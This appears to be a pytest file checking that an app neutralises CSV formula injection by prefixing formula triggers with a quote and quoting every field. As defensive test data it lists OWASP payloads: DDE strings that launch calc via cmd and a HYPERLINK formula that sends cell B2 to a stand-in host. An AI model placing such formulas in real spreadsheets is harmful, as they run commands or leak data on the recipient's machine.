"""CSV fields a spreadsheet never runs: quoted, formula triggers prefixed (OWASP payloads)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from app.core.spreadsheet import FORMULA_TRIGGERS, csv_field, csv_writer, neutralise
from tests.csv_payloads import payloads

PAYLOADS = payloads()


def test_the_payload_file_holds_the_owasp_examples() -> None:
    assert "=1+2" in PAYLOADS and "+1" in PAYLOADS
    assert "=cmd|' /C calc'!A0" in PAYLOADS
    assert "@SUM(1+9)*cmd|' /C calc'!A0" in PAYLOADS
    assert "-2+3+cmd|' /C calc'!A0" in PAYLOADS
    assert '=HYPERLINK("http://x?"&B2,"klik")' in PAYLOADS
    assert {p[0] for p in PAYLOADS} >= set(FORMULA_TRIGGERS)  # tab and CR ones too


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_gets_a_quote_in_front(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Berg", "'s-Hertogenbosch", "a=b", "Jan-Willem", "", "1+2"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_and_dates_are_not_text() -> None:
    assert csv_field(-3) == "-3" and csv_field(2.5) == "2.5" and csv_field(None) == ""
    assert csv_field(date(2026, 11, 2)) == "2026-11-02"


def test_the_writer_quotes_every_field_and_reads_back() -> None:
    buffer = io.StringIO(newline="")
    writer = csv_writer(buffer, delimiter=";")
    writer.writerow(["name", "n"])
    for payload in PAYLOADS:
        writer.writerow([payload, 7])
    text = buffer.getvalue()
    for line in text.split("\r\n")[:3]:
        assert line.startswith('"') and line.endswith('"')
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["name", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert all(r[1] == "7" for r in rows[1:])
